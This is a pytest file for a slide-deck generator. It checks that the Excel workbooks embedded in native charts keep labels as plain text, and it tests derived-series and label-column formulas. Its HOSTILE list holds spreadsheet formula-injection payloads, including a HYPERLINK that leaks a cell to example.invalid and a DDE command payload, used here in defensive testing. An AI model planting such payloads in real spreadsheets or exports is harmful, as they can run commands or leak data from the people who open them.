"""A native chart's embedded workbook holds labels as text: "Edit Data" runs no formula."""

from __future__ import annotations

import io
import subprocess
import sys

import pytest
from openpyxl import load_workbook
from pptx import Presentation

from tests.helpers import write_project

#: Labels an export from anywhere may hold; each would be a live formula or a link.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "http://example.invalid/",
]
CSV = "label,a,b\n" + "".join(
    f'"{label.replace(chr(34), chr(34) * 2)}",{i + 1},{i + 2}\n' for i, label in enumerate(HOSTILE)
)
OUTLINE = """\
deck: {title: T}
data:
  t: {file: t.csv}
slides:
  - kind: chart
    title: Bars
    chart: {type: bar, data: t, x: label, y: a}
  - kind: chart
    title: Series named like formulas
    chart: {type: grouped-bar, data: t, x: label, y: [a, b],
            series_labels: {a: "=1+2", b: "@NOW()"}}
  - kind: chart
    title: Points named like formulas
    chart: {type: scatter, data: t, x: a, y: b, name: label}
"""


@pytest.fixture(scope="module")
def workbooks(tmp_path_factory):
    """The workbooks of a build run as a user runs it: in a fresh process, where nothing
    but the native-chart code itself can have set python-pptx up."""
    root = tmp_path_factory.mktemp("formulas")
    path = write_project(root / "p", OUTLINE, {"t.csv": CSV})
    command = [sys.executable, "-m", "deckgen", "build", str(path), "-o", str(root / "out"),
               "--native-charts", "--jobs", "1"]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True)
    found = []
    for slide in Presentation(str(root / "out" / f"{path.stem}.pptx")).slides:
        for shape in slide.shapes:
            if shape.has_chart:
                blob = shape.chart.part.chart_workbook.xlsx_part.blob
                found.append(load_workbook(io.BytesIO(blob)).active)
    return found


def test_every_native_chart_embeds_a_workbook(workbooks):
    assert len(workbooks) == 3


def test_no_cell_of_an_embedded_workbook_is_a_formula_or_a_link(workbooks):
    for sheet in workbooks:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                assert cell.hyperlink is None, (cell.coordinate, cell.value)


def test_the_labels_are_kept_as_the_text_they_were(workbooks):
    texts = {c.value for sheet in workbooks for row in sheet.iter_rows() for c in row}
    assert set(HOSTILE) <= texts
    assert {"=1+2", "@NOW()"} <= texts


# --------------------------------------------------------------------------- derived series
def test_a_derived_series_is_embedded_as_formulas_with_its_values_cached():
    """A total typed in as a number stayed the old total after "Edit Data" changed a part
    (found by review): a derived series' cells are formulas, their values cached for
    viewers that do not recalculate; the chart's own references and cache are unchanged."""
    from deckgen.ooxml.workbook import Derived, category_data, cell, values_range
    from tests.ooxml.formulas import recalculate, sheet_cells

    data = category_data("0.0")
    data.categories = ["North", "South"]
    data.add_series("=1+2", [1.5, 2.0])  # a label that looks like a formula stays text
    data.add_series("Coal", [3.0, None])
    sums = [f"SUM({cell(0, i)}:{cell(1, i)})" for i in range(2)]
    total = data.add_series("Total", Derived([4.5, 2.0], sums))
    mean = data.add_series("Mean", Derived([1.75, 1.75], [f"AVERAGE({values_range(0, 2)})"] * 2))
    assert data.values_ref(total) == "Sheet1!$D$2:$D$3"
    assert mean.values == [1.75, 1.75]  # what the chart caches
    blob = io.BytesIO(data.xlsx_blob)
    formulas, values = load_workbook(blob).active, load_workbook(blob, data_only=True).active
    assert [formulas[c].value for c in ("D2", "D3", "E2")] == [
        "=SUM(B2:C2)", "=SUM(B3:C3)", "=AVERAGE($B$2:$B$3)"]  # fmt: skip
    assert [values[c].value for c in ("D2", "D3", "E3")] == [4.5, 2.0, 1.75]
    assert formulas["B1"].value == "=1+2" and formulas["B1"].data_type == "s"
    assert formulas["C2"].data_type == "n" and formulas["C3"].value is None
    edited = recalculate({**sheet_cells(formulas), "C2": 10.0})
    assert (edited["D2"], edited["E2"]) == (11.5, 1.75)


def test_a_derived_series_takes_a_formula_or_none_per_value():
    from deckgen.ooxml.workbook import Derived

    with pytest.raises(ValueError, match="formula"):
        Derived([1.0, 2.0], ["B2"])


def test_a_label_column_stands_right_of_every_series_headed_by_its_series_name():
    """A series' labels may read their text from cells ("Value From Cells"): a column of
    formulas right of every series (overlays too), headed by a formula giving the labelled
    series' name, in its number format; the chart is told its reference."""
    from deckgen.ooxml.workbook import Derived, category_data

    data = category_data("0.0")
    data.categories = ["North", "South"]
    data.add_series("Coal", [1.25, 2.0])
    data.add_series("Gas", [3.0, None])
    data.add_series("Total", Derived([4.25, 2.0], ["SUM(B2:C2)", "SUM(B3:C3)"]))
    first = data.add_labels(0, Derived([1.3, 2.0], ["ROUND(B2,1)", "ROUND(B3,1)"]))
    second = data.add_labels(1, Derived([3.0, None], ["ROUND(C2,1)", 'IF(C3="","",C3)']))
    assert (first, second) == ("Sheet1!$E$2:$E$3", "Sheet1!$F$2:$F$3")
    blob = io.BytesIO(data.xlsx_blob)
    formulas, values = load_workbook(blob).active, load_workbook(blob, data_only=True).active
    assert [formulas[c].value for c in ("E1", "F1", "E2", "F3")] == [
        "=B1", "=C1", "=ROUND(B2,1)", '=IF(C3="","",C3)']  # fmt: skip
    assert [values[c].value for c in ("E1", "F1", "E2", "F2")] == ["Coal", "Gas", 1.3, 3.0]
    assert formulas["E2"].number_format == "0.0"
    assert [s.name for s in data] == ["Coal", "Gas", "Total"]  # labels are no series
